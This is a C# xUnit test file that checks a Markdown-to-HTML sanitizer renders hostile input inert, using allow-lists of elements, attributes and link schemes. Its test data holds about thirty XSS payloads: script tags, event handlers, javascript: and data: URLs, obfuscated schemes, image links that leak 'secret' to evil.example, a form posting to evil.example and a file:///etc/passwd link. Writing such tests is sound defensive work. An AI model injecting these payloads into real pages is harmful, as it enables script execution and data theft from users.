using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Chameleon.Web.Markdown;

namespace Chameleon.Web.Tests.Markdown;

public sealed class MarkdownHtmlTests
{
    private static readonly string[] Elements =
    [
        "p", "em", "strong", "del", "sub", "sup", "ins", "mark", "a", "ul", "ol", "li", "blockquote", "hr", "h1", "h2", "h3", "h4", "h5", "h6",
        "table", "thead", "tbody", "tr", "th", "td", "br", "pre", "code", "div", "span", "button",
    ];

    private static readonly string[] Attributes =
        ["href", "target", "rel", "title", "class", "type", "data-copy-code", "tabindex", "start", "id", "colspan"];

    public static TheoryData<string> Hostile { get; } = new(
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<a href=\"javascript:alert(1)\" onclick=alert(1)>x</a>",
        "<style>body{background:url(https://evil.example/)}</style>",
        "<!-- --><form action=https://evil.example><input name=a></form>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\nscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](\u0001javascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:x \"title\" onmouseover=alert(1))",
        "[x](//evil.example)",
        "[x](/c/1)",
        "[x](file:///etc/passwd)",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "<data:text/html,x>",
        "![x](https://evil.example/?q=secret)",
        "![x](javascript:alert(1))",
        "[![x](https://evil.example/a.png)](javascript:alert(1))",
        "![x][r]\n\n[r]: https://evil.example/?q=secret",
        "```\"><script>alert(1)</script>\nx\n```",
        "`<script>alert(1)</script>`",
        "| <script> | <img src=x onerror=1> |\n|---|---|\n| [x](javascript:1) | ![x](https://evil.example) |",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "\"><img src=x onerror=alert(1)>\n# <svg onload=1>\n- <b onclick=1>\n> <i style=x>");

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Case_48_hostile_markdown_is_inert_at_every_letter_of_its_arrival(string markdown)
    {
        for (var length = 1; length <= markdown.Length; length++)
        {
            AssertInert(string.Concat(MarkdownHtml.Blocks(markdown[..length]).Select(block => block.Html)));
        }
    }

    [Fact]
    public void Case_48_a_picture_named_by_address_is_a_link_to_it_and_loads_nothing()
    {
        var document = Parse(Html("![a cat](https://example.org/cat.png)"));

        Assert.Empty(document.QuerySelectorAll("img"));
        var link = Assert.Single(document.QuerySelectorAll("a"));
        Assert.Equal(("a cat", "https://example.org/cat.png"), (link.TextContent, link.GetAttribute("href")));
    }

    [Fact]
    public void Case_48_what_nests_without_end_is_shown_as_text()
    {
        var markdown = new string('>', 20_000) + "<script>";

        AssertInert(Html(markdown));
    }

    [Theory]
    [InlineData("[x](https://example.org/a?b=c)", "https://example.org/a?b=c")]
    [InlineData("<https://example.org/>", "https://example.org/")]
    [InlineData("see https://example.org/ there", "https://example.org/")]
    [InlineData("[x](mailto:a@example.org)", "mailto:a@example.org")]
    public void A_link_leads_out_of_the_page_and_tells_nobody_where_it_came_from(string markdown, string address)
    {
        var link = Assert.Single(Parse(Html(markdown)).QuerySelectorAll("a"));

        Assert.Equal(address, link.GetAttribute("href"));
        Assert.Equal(("_blank", "noopener noreferrer nofollow"), (link.GetAttribute("target"), link.GetAttribute("rel")));
    }

    [Fact]
    public void A_link_that_is_not_followed_keeps_its_words()
    {
        var document = Parse(Html("a [b **c**](javascript:1) d"));

        Assert.Equal("a b c d", document.Body!.TextContent.Trim());
        Assert.Equal("c", document.QuerySelector("strong")!.TextContent);
    }

    [Fact]
    public void Code_stands_under_its_language_with_a_button_that_copies_it()
    {
        var document = Parse(Html("```csharp\nvar a = b < c;\n```"));

        Assert.Equal("csharp", document.QuerySelector(".code-bar span")!.TextContent);
        Assert.NotNull(document.QuerySelector(".code-bar button[data-copy-code]"));
        Assert.Equal("var a = b < c;\n", document.QuerySelector("pre")!.TextContent);
    }

    [Fact]
    public void Tables_lists_and_emphasis_are_what_they_are()
    {
        var document = Parse(Html("| a | b |\n|---|---|\n| 1 | 2 |\n\n- *x*\n- ~~y~~"));

        Assert.Equal(2, document.QuerySelectorAll("td").Length);
        Assert.Equal("x", document.QuerySelector("li em")!.TextContent);
        Assert.Equal("y", document.QuerySelector("li del")!.TextContent);
    }

    private static string Html(string markdown) => string.Concat(MarkdownHtml.Blocks(markdown).Select(block => block.Html));

    private static IDocument Parse(string html) => new HtmlParser().ParseDocument(html);

    private static void AssertInert(string html)
    {
        foreach (var element in Parse(html).Body!.QuerySelectorAll("*"))
        {
            Assert.Contains(element.LocalName, Elements);
            Assert.All(element.Attributes, attribute => Assert.Contains(attribute.Name, Attributes));
            if (element.GetAttribute("href") is { } address)
            {
                Assert.Matches("^(https?://|mailto:)", address);
            }
        }
    }
}
